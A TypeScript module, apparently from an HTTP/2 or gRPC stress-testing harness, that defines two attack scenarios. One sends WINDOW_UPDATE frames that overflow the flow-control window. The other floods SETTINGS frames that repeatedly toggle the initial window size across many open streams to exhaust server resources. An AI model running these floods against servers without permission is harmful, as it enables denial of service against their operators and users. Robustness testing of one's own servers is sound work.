import { type Attack, callHeaders, repeated } from "./attack.js";
import { FLAG, frame, number32, setting, TYPE } from "./frames.js";

const INITIAL_WINDOW_SIZE = 4;
const EMPTY_MESSAGE = Buffer.alloc(5);

/** A window above 2^31-1, which ends the connection (RFC 9113, section 6.9.1). */
export const windowOverflow: Attack = {
  name: "windows that overflow",
  connections: 10,
  async run(connection) {
    await connection.begin();
    await connection.write(repeated(frame(TYPE.windowUpdate, 0, 0, number32(2 ** 31 - 1)), 2), 2);
    await connection.waitForEnd();
  },
};

/** Windows that open and close, each time for all streams, so that a server would count them anew. */
export const flutteringWindows: Attack = {
  name: "windows that open and close",
  connections: 4,
  async run(connection) {
    await connection.begin(setting(INITIAL_WINDOW_SIZE, 0));
    for (let stream = 1; stream < 200; stream += 2) {
      const body = frame(TYPE.data, FLAG.endStream, stream, EMPTY_MESSAGE);
      await connection.write(Buffer.concat([callHeaders(stream), body]));
    }
    const both = [setting(INITIAL_WINDOW_SIZE, 1), setting(INITIAL_WINDOW_SIZE, 0)];
    await connection.flood(repeated(Buffer.concat(both), 50), 100);
  },
};
